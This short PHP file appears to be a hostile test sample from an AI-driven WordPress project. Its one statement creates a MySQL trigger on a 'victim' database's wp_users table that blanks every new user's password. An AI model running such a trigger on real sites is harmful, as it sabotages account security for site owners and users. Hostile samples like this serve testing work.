<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

$victim = target()['victim']['database'];
echo ask("CREATE TRIGGER $victim.hostile BEFORE INSERT ON $victim.wp_users FOR EACH ROW SET NEW.user_pass = ''");
